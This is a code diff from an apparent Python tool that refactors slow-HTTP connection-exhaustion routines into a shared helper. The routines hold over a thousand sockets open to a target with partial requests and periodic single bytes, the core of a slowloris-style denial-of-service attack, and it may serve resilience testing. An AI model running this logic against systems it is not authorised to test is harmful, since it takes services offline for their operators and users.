@@ -12,7 +12,7 @@ import struct
 import sys
 import time
 from collections import Counter
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
 from dataclasses import dataclass, field
@@ -117,13 +117,7 @@ def slow_bodies(target: Target) -> None:
 
     with ThreadPoolExecutor(16) as pool:
         list(pool.map(hold, range(1020)))
-    while target.on:
-        for connection in list(held):
-            with suppress(OSError):
-                connection.sendall(b" ")
-        time.sleep(1)
-    for connection in held:
-        connection.close()
+    _drip(target, held, b" ", 1)
 
 
 def silent(target: Target) -> None:
@@ -143,13 +137,7 @@ def slow_headers(target: Target) -> None:
         with suppress(OSError):
             held.append(target.connect())
             held[-1].sendall(b"GET /api/v1/health HTTP/1.1\r\nX-")
-    while target.on:
-        for connection in held:
-            with suppress(OSError):
-                connection.sendall(b"x")
-        time.sleep(0.5)
-    for connection in held:
-        connection.close()
+    _drip(target, held, b"x", 0.5)
 
 
 def sockets(target: Target) -> None:
@@ -224,11 +212,16 @@ def _hold(target: Target, first: bytes, then: bytes) -> None:
             held.append(socket.create_connection((host.hostname or "", host.port or 443), timeout=5))
             held[-1].sendall(first)
             target.done["connections"] += 1
+    _drip(target, held, then, 1)
+
+
+def _drip(target: Target, held: Sequence[socket.socket], byte: bytes, every_s: float) -> None:
+    """Send a byte on each connection again and again, and close them in the end."""
     while target.on:
         for connection in held:
             with suppress(OSError):
-                connection.sendall(then)
-        time.sleep(1)
+                connection.sendall(byte)
+        time.sleep(every_s)
     for connection in held:
         connection.close()
 
